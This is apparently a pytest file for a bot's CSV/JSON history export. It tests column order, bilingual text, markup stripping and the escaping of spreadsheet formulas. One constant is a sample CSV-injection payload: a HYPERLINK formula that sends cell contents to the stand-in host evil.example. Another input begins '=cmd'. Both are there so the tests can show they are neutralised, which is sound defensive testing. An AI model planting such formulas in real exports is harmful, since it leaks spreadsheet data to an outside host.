"""The history as a file: complete, readable in both languages, and harmless in a spreadsheet."""

import csv
import io
import json
from dataclasses import replace
from typing import Any

import pytest

from bot.reports.exports import BYTE_ORDER_MARK, COLUMNS, Record, as_csv, as_json, safe_cell
from bot.reports.plain import plain, sentence
from flows.names import SYSTEM, Bilingual
from tests.bot.views.samples import history_line, lens, mixed_card, mixed_deliverables, some_history
from tests.builders import LEAD, STEER, TECH

NAMES = {LEAD: "林岚", STEER: "Emma Fischer"}
WORST = '=HYPERLINK("http://evil.example/"&A1,"Pay")\n*bold* <@U0LIN> & "quotes", 你好 🚀 \x0b'


def record(*lines: Any, locale: str = "en") -> Record:
    return Record(mixed_card(), lines or tuple(reversed(some_history())), lens(locale), NAMES)


def rows(text: str) -> list[dict[str, str]]:
    assert text.startswith(BYTE_ORDER_MARK)
    return list(csv.DictReader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))


def test_the_csv_has_every_column_and_a_row_for_every_line_oldest_first() -> None:
    found = rows(as_csv(record()))
    assert [tuple(row) for row in found] == [COLUMNS] * 4
    assert [row["event"] for row in found] == [
        "ProjectCreated", "DeliverableSubmitted", "StrandStatesChanged", "VoteCast",
    ]  # fmt: skip
    assert found[0]["what"] == "林岚 created the project"
    assert found[1]["deliverable"] == "Idea card"
    assert found[3]["name"] == "Emma Fischer"
    assert found[3]["what"] == "Emma Fischer voted Hold: Wait for the filing"
    assert json.loads(found[3]["details"])["vote"]["decision"] == "hold"


def test_the_file_speaks_the_language_of_its_reader() -> None:
    (created, *_) = rows(as_csv(record(locale="zh_CN")))
    assert created["what"] == "林岚 创建了项目"
    assert created["event"] == "ProjectCreated"


def test_the_json_says_the_same_as_the_csv() -> None:
    made = json.loads(as_json(record()))
    assert made["project"]["key"] == "LD-12"
    assert [entry["what"] for entry in made["history"]] == [row["what"] for row in rows(as_csv(record()))]
    assert [entry["row"] for entry in made["history"]] == [7] * 4


def test_somebody_unknown_and_the_clock_have_a_name_too() -> None:
    lines = (history_line("ProjectResumed", TECH), history_line("ProjectResumed", SYSTEM))
    found = rows(as_csv(record(*lines)))
    assert [row["name"] for row in found] == [TECH, "Liandong"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "  ="])
def test_no_cell_begins_a_formula(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["", "1+1", "a=b", "林岚", " plain"])
def test_other_cells_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text


def test_the_worst_words_arrive_whole_and_harmless() -> None:
    about = replace(mixed_deliverables()[0], title=Bilingual(WORST, WORST))
    line = history_line("DeliverableWaived", "=cmd", about=about, reason=WORST)
    (row,) = rows(as_csv(record(line)))
    assert not any(value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
    assert row["by"] == "'=cmd"
    assert row["deliverable"] == f"'{WORST}"
    assert json.loads(row["details"])["reason"] == WORST
    assert json.loads(as_json(record(line)))["history"][0]["details"]["reason"] == WORST
    assert "\n" not in row["what"]
    assert "*bold* <@U0LIN> &" in row["what"]


def test_asterisks_of_ours_go_and_those_of_people_stay() -> None:
    line = history_line("ProjectHeld", reason="2*3*4 of *all*")
    assert sentence(line, mixed_card(), lens("en"), NAMES).endswith("2*3*4 of *all*")
    submitted = history_line("DeliverableSubmitted", about=mixed_deliverables()[0], number=2)
    assert sentence(submitted, mixed_card(), lens("en"), NAMES) == "林岚 submitted Idea card, version 2"


@pytest.mark.parametrize(
    ("mrkdwn", "text"),
    [
        ("<@U0LIN> and <@U0HAN>", "林岚 and U0HAN"),
        ("<https://example.org/a?b=1&amp;c=2|the report>", "the report (https://example.org/a?b=1&c=2)"),
        ("<#C0RADAR>", "#C0RADAR"),
        ("<!date^1790000000^{date_short_pretty}|Sep 21>", "Sep 21"),
        ("&lt;script&gt; &amp;amp;", "<script> &amp;"),
    ],
)
def test_markup_becomes_text(mrkdwn: str, text: str) -> None:
    assert plain(mrkdwn, NAMES) == text
